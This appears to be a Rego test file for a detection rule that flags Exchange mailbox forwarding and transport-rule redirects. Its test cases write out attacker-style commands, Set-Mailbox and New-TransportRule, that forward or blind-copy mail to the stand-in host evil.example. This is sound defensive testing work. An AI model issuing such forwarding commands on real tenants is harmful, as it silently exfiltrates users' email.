package tenantgate.hunt.detections.tg_hunt_9_test

import data.tenantgate.hunt.detections.tg_hunt_9 as d
import data.tenantgate.hunt.test as t

cmd(op, params) := t.replace(t.ual, {"op": op, "opk": lower(op), "detail": {"params": params}})

got(ev) := [f.facts.forwarding | some f in d.findings with input as t.with_events([ev])]

cases := [
	{"name": "ForwardingSmtpAddress", "ev": cmd("Set-Mailbox", {"Identity": "johanna", "ForwardingSmtpAddress": "smtp:x@evil.example"}), "want": [["ForwardingSmtpAddress smtp:x@evil.example"]]},
	{"name": "ForwardingAddress", "ev": cmd("Set-Mailbox", {"Identity": "johanna", "ForwardingAddress": "contact1"}), "want": [["ForwardingAddress contact1"]]},
	{"name": "DeliverToMailboxAndForward", "ev": cmd("Set-Mailbox", {"DeliverToMailboxAndForward": "True", "ForwardingSmtpAddress": "x@evil.example"}), "want": [["DeliverToMailboxAndForward", "ForwardingSmtpAddress x@evil.example"]]},
	{"name": "forwarding removed", "ev": cmd("Set-Mailbox", {"ForwardingSmtpAddress": "$null", "DeliverToMailboxAndForward": "False"}), "want": []},
	{"name": "other Set-Mailbox", "ev": cmd("Set-Mailbox", {"Identity": "johanna", "AuditEnabled": "False"}), "want": []},
	{"name": "transport rule redirect", "ev": cmd("New-TransportRule", {"Name": "r", "RedirectMessageTo": "x@evil.example"}), "want": [["RedirectMessageTo x@evil.example"]]},
	{"name": "transport rule BCC", "ev": cmd("Set-TransportRule", {"Identity": "r", "BlindCopyTo": "x@evil.example"}), "want": [["BlindCopyTo x@evil.example"]]},
	{"name": "transport rule without redirect", "ev": cmd("New-TransportRule", {"Name": "r", "PrependSubject": "[EXT]"}), "want": []},
]

test_cases if {
	failures := [sprintf("%s: got %v, want %v", [c.name, got(c.ev), c.want]) | some c in cases; got(c.ev) != c.want]
	print(failures)
	failures == []
}

test_summary if {
	[f] := [f | some f in d.findings with input as t.with_events([cmd("Set-Mailbox", {"Identity": "johanna", "ForwardingSmtpAddress": "x@evil.example"})])]
	f.severity == "high"
	f.facts.identity == "johanna"
	f.summary == "Set-Mailbox by johanna@sunnyside08.onmicrosoft.com from 2a0b:f4c2:1::1: ForwardingSmtpAddress x@evil.example"
}
